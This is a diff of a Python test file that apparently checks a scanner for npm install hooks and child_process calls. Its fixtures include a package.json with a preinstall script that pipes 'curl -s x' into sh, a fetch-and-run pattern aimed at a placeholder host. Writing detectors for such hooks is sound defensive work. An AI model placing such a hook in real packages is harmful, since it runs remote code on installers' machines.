@@ -93,7 +93,6 @@ def test_npm_hooks_main_and_bin() -> None:
             "scripts/h.js": "exports.go = () => require('child_process').exec('helper')",
             "lib/index.js": "const {exec} = require('child_process'); (() => exec('main'))();"
             "exports.f = () => exec('idle')",
-            "exports.f = () => exec('idle')",
             "bin/x.js": "require('child_process').exec('program')",
             "test/t.js": "require('child_process').exec('test')",
         },
@@ -112,7 +111,8 @@ def test_a_hook_that_runs_text() -> None:
     program = program_of(
         "npm",
         {
-            "package.json": '{"name": "sample", "version": "1.0.0", "scripts": {"preinstall": "node a.txt; curl -s x | sh"}}',
+            "package.json": '{"name": "sample", "version": "1.0.0",'
+            ' "scripts": {"preinstall": "node a.txt; curl -s x | sh"}}',
             "a.txt": "some words",
         },
     )
